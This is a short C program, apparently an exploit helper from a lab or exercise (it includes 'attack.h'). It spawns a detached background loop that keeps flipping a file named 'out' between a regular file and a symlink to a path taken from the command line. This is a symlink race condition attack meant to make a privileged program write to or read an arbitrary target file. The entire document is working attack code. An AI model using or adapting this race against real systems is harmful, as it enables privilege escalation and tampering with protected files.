#include "attack.h"

int main(int argc, char **argv) {
  if (fork() == 0) {
    setsid();
    if (fork() != 0) _exit(0);
    for (;;) {
      int fd = open("new", O_WRONLY | O_CREAT | O_TRUNC, 0644);
      write(fd, "own\n", 4);
      close(fd);
      rename("new", "out");
      symlink(argv[1], "new");
      rename("new", "out");
    }
  }
  usleep(100000);
  return 0;
}
